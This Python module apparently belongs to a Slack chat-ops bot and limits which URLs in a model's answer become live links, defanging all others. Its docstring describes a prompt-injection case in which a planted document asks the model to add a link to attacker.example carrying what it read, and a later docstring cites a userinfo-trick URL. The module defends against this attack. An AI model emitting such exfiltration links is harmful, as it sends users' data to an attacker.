"""Which URLs an answer may turn into live links.

An answer is written by a model that has read documents, and a planted document
can ask it to add ``[Full policy](https://attacker.example/?q=<what it read>)``:
one click, or an unfurl, sends the audience's data away. So an answer links only
to the sources it cites and to hosts the operator allows (``CHATOPS_LINK_HOSTS``);
every other URL is shown inert: its host, defanged, in plain text that Slack
neither links nor unfurls.
"""

from __future__ import annotations

from dataclasses import dataclass
from urllib.parse import urlsplit


@dataclass(frozen=True)
class LinkPolicy:
    urls: frozenset[str] = frozenset()   # exact URLs that may be linked (the cited sources)
    hosts: tuple[str, ...] = ()          # "wiki.corp.example", or "*.corp.example" for a domain

    @classmethod
    def of(cls, urls=(), hosts=()) -> "LinkPolicy":
        return cls(frozenset(u for u in urls if u), tuple(h.strip().lower() for h in hosts if h.strip()))

    def allows(self, url: str) -> bool:
        if url in self.urls:
            return True
        host = safe_host(url)
        if host is None:
            return False
        for allowed in self.hosts:
            if allowed.startswith("*."):
                domain = allowed[2:]
                if host == domain or host.endswith("." + domain):
                    return True
            elif host == allowed:
                return True
        return False


def safe_host(url: str) -> str | None:
    """The lower-cased host of an http(s) URL without tricks; None for anything else.

    Refused: other schemes, user info (``https://corp.example@evil.example``), backslashes and
    control characters, which browsers and Python may read differently."""
    if any(ch in url for ch in "\\\t\r\n ") or any(ord(ch) < 32 for ch in url):
        return None
    try:
        parts = urlsplit(url)
    except ValueError:
        return None
    if parts.scheme.lower() not in ("http", "https") or "@" in parts.netloc or not parts.hostname:
        return None
    return parts.hostname.lower()


def defang_host(url: str) -> str:
    """The URL's host with its dots bracketed (``attacker[.]example``), for display only."""
    try:
        parts = urlsplit(url)
        host, scheme = parts.hostname or "", parts.scheme
    except ValueError:
        host, scheme = "", ""
    if not host and url.lower().startswith("www."):
        host = url.split("/", 1)[0]
    if not host:
        return f"a {scheme[:20]} address" if scheme else "an address"
    return host.replace(".", "[.]")[:100]
